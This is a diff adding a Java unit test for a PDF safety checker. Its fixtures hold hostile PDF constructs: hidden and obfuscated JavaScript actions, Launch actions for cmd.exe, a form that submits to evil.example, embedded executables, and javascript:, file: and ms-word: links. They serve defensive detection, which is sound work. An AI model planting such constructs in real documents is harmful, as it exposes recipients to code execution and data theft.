@@ -1,0 +1,190 @@
+package fr.navette.documents.check;
+
+import static fr.navette.documents.Uploaded.text;
+import static fr.navette.documents.check.RawPdf.annotation;
+import static fr.navette.documents.check.RawPdf.catalog;
+import static fr.navette.documents.check.RawPdf.deflated;
+import static fr.navette.documents.check.RawPdf.link;
+import static fr.navette.documents.check.RawPdf.packed;
+import static fr.navette.documents.check.RawPdf.page;
+import static org.assertj.core.api.Assertions.assertThat;
+
+import fr.navette.documents.Uploaded;
+import org.apache.pdfbox.pdmodel.interactive.action.PDActionJavaScript;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.ValueSource;
+
+class PdfActiveTest {
+    private static final String SCRIPT = "<</S/JavaScript/JS(app.alert\\(1\\))>>";
+
+    private static Verdict verdict(byte[] pdf) {
+        return PdfCheck.verdict(pdf);
+    }
+
+    @Test
+    void what_is_unsafe_says_so() {
+        for (var verdict : Verdict.values())
+            if (verdict.name().startsWith("PDF_"))
+                assertThat(verdict.state()).as(verdict.name()).isEqualTo(DocumentState.UNSAFE);
+    }
+
+    @Test
+    void a_script_is_found_wherever_it_hangs() {
+        assertThat(verdict(catalog("/OpenAction" + SCRIPT))).isEqualTo(Verdict.PDF_SCRIPT);
+        assertThat(verdict(catalog("/AA<</WC 4 0 R>>", SCRIPT))).isEqualTo(Verdict.PDF_SCRIPT);
+        assertThat(verdict(catalog("/Names<</JavaScript<</Names[(a)4 0 R]>>>>", SCRIPT)))
+                .isEqualTo(Verdict.PDF_SCRIPT);
+        assertThat(verdict(page("/AA<</O" + SCRIPT + ">>"))).isEqualTo(Verdict.PDF_SCRIPT);
+        assertThat(verdict(annotation("/Subtype/Link/A" + SCRIPT))).isEqualTo(Verdict.PDF_SCRIPT);
+        assertThat(verdict(catalog("/AcroForm<</Fields[<</FT/Tx/T(a)/AA<</K" + SCRIPT + ">>>>]>>")))
+                .isEqualTo(Verdict.PDF_SCRIPT);
+        assertThat(verdict(catalog("/Outlines<</First 4 0 R>>", "<</Title(a)/A" + SCRIPT + ">>")))
+                .isEqualTo(Verdict.PDF_SCRIPT);
+    }
+
+    @Test
+    void a_script_behind_another_action_is_found() {
+        var first = "<</S/GoTo/D[3 0 R/Fit]/Next[<</S/Named/N/NextPage/Next 5 0 R>>]>>";
+        assertThat(verdict(catalog("/OpenAction 4 0 R", first, SCRIPT))).isEqualTo(Verdict.PDF_SCRIPT);
+    }
+
+    @Test
+    void a_script_is_found_under_another_spelling_and_in_a_stream() {
+        assertThat(verdict(catalog("/OpenAction<</S/J#61vaScript/#4aS(app.alert\\(1\\))>>")))
+                .isEqualTo(Verdict.PDF_SCRIPT);
+        var stream = "<</Length 12>>stream\napp.alert(1)\nendstream";
+        assertThat(verdict(catalog("/OpenAction<</S/Rendition/JS 4 0 R>>", stream)))
+                .isEqualTo(Verdict.PDF_SCRIPT);
+    }
+
+    @Test
+    void a_script_in_a_packed_list_of_objects_is_found_however_often_it_is_packed() {
+        var list = text("4 0 " + SCRIPT);
+        var once = deflated(list);
+        assertThat(verdict(packed("/FlateDecode", once, 4, 1, "/OpenAction 4 0 R")))
+                .isEqualTo(Verdict.PDF_SCRIPT);
+        assertThat(verdict(packed("[/FlateDecode/FlateDecode]", deflated(once), 4, 1, "/OpenAction 4 0 R")))
+                .isEqualTo(Verdict.PDF_SCRIPT);
+    }
+
+    @Test
+    void a_list_of_objects_that_we_cannot_unpack_is_broken_for_others_may() {
+        var list = text("4 0 " + SCRIPT);
+        for (var filter : new String[] {"/DCTDecode", "/Unheard", "[/FlateDecode 7]", " 7"})
+            assertThat(verdict(packed(filter, list, 4, 1, "/OpenAction 4 0 R")))
+                    .as(filter)
+                    .isEqualTo(Verdict.BROKEN);
+        var five = "[/AHx/AHx/AHx/AHx/AHx]";
+        assertThat(verdict(packed(five, list, 4, 1, "/OpenAction 4 0 R"))).isEqualTo(Verdict.BROKEN);
+    }
+
+    @Test
+    void what_is_behind_an_owners_password_is_looked_into() {
+        assertThat(verdict(Uploaded.aProtectedPdf(
+                        "", pdf -> pdf.getDocumentCatalog().setOpenAction(new PDActionJavaScript("app.alert(1)")))))
+                .isEqualTo(Verdict.PDF_SCRIPT);
+    }
+
+    @Test
+    void what_opens_programs_or_other_files_is_unsafe() {
+        for (var action : new String[] {
+            "/S/Launch/F(calc.exe)",
+            "/S/Launch/Win<</F(cmd.exe)>>",
+            "/S/GoToR/F(other.pdf)/D[0/Fit]",
+            "/S/GoToE/T<</R/C/N(a)>>",
+            "/S/Thread/F(other.pdf)/D 0",
+            "/S/ImportData/F(data.fdf)"
+        })
+            assertThat(verdict(catalog("/OpenAction<<" + action + ">>")))
+                    .as(action)
+                    .isEqualTo(Verdict.PDF_LAUNCH);
+    }
+
+    @Test
+    void a_form_that_sends_what_is_typed_is_unsafe() {
+        assertThat(verdict(annotation("/Subtype/Widget/FT/Btn/A<</S/SubmitForm/F(http://evil.example)>>")))
+                .isEqualTo(Verdict.PDF_SENDS);
+    }
+
+    @Test
+    void embedded_files_are_unsafe() {
+        var file = "<</Type/EmbeddedFile/Length 2>>stream\nMZ\nendstream";
+        var spec = "<</Type/Filespec/F(a.exe)/EF<</F 4 0 R>>>>";
+        assertThat(verdict(catalog("/Names<</EmbeddedFiles<</Names[(a)" + spec + "]>>>>", file)))
+                .isEqualTo(Verdict.PDF_EMBEDDED_FILES);
+        assertThat(verdict(catalog("/AF[" + spec + "]", file))).isEqualTo(Verdict.PDF_EMBEDDED_FILES);
+        assertThat(verdict(annotation("/Subtype/FileAttachment/FS(a)"))).isEqualTo(Verdict.PDF_EMBEDDED_FILES);
+        assertThat(verdict(page("/PieceInfo 4 0 R", file))).isEqualTo(Verdict.PDF_EMBEDDED_FILES);
+        assertThat(verdict(catalog("/Names<</EmbeddedFiles<</Names[]>>>>"))).isEqualTo(Verdict.FINE);
+        assertThat(verdict(page("/PieceInfo<</EF<<>>>>"))).isEqualTo(Verdict.FINE);
+    }
+
+    @Test
+    void films_and_three_dimensions_are_unsafe() {
+        for (var kind : new String[] {"RichMedia", "3D", "Movie", "Sound", "Screen"})
+            assertThat(verdict(annotation("/Subtype/" + kind))).isEqualTo(Verdict.PDF_MEDIA);
+    }
+
+    @Test
+    void a_form_that_is_a_program_is_unsafe() {
+        assertThat(verdict(catalog("/AcroForm<</Fields[]/XFA[(template)4 0 R]>>", "null")))
+                .isEqualTo(Verdict.PDF_XFA);
+        assertThat(verdict(catalog("/AcroForm<</XFA 4 0 R>>", "<</Length 1>>stream\na\nendstream")))
+                .isEqualTo(Verdict.PDF_XFA);
+        assertThat(verdict(catalog("/AcroForm<</Fields[]/XFA null>>"))).isEqualTo(Verdict.FINE);
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "https://www.example.org/a?b=c#d",
+                "HTTP://EXAMPLE.ORG",
+                " https://example.org",
+                "mailto:ada@example.org?subject=Bonjour",
+                "tel:+33320000000",
+                "www.example.org",
+                "www.example.org:8080/page",
+                "example.org:443",
+                "page.html#top",
+                "#top",
+                ""
+            })
+    void ordinary_links_are_fine(String uri) {
+        assertThat(verdict(link(uri))).isEqualTo(Verdict.FINE);
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "javascript:alert(1)",
+                " \\t JavaScript:alert(1)",
+                "java\\nscript:alert(1)",
+                "\\001javascript:alert(1)",
+                "file:///C:/Windows/System32/calc.exe",
+                "C:\\\\Windows\\\\calc.exe",
+                "\\\\\\\\server\\\\share",
+                "data:text/html,<script>",
+                "ms-word:ofe|u|http://evil.example",
+                "smb://server/share",
+                "javascript:1/alert(1)"
+            })
+    void odd_links_are_unsafe(String uri) {
+        assertThat(verdict(link(uri))).isEqualTo(Verdict.PDF_ODD_LINK);
+    }
+
+    @Test
+    void what_links_begin_with_may_not_be_odd_either() {
+        assertThat(verdict(catalog("/URI<</Base(javascript:)>>"))).isEqualTo(Verdict.PDF_ODD_LINK);
+        assertThat(verdict(catalog("/URI<</Base(https://example.org/)>>"))).isEqualTo(Verdict.FINE);
+        assertThat(verdict(catalog("/URI<<>>"))).isEqualTo(Verdict.FINE);
+    }
+
+    @Test
+    void names_that_only_look_like_actions_are_fine() {
+        var tags = "<</Type/StructTreeRoot/K[<</S/Launch/K 0>><</S/JavaScript>><</S/Thread>>]>>";
+        assertThat(verdict(catalog("/StructTreeRoot 4 0 R", tags))).isEqualTo(Verdict.FINE);
+        assertThat(verdict(page("/Resources<</Font<</JS<</Type/Font>>/S<<>>>>>>")))
+                .isEqualTo(Verdict.FINE);
+    }
+}
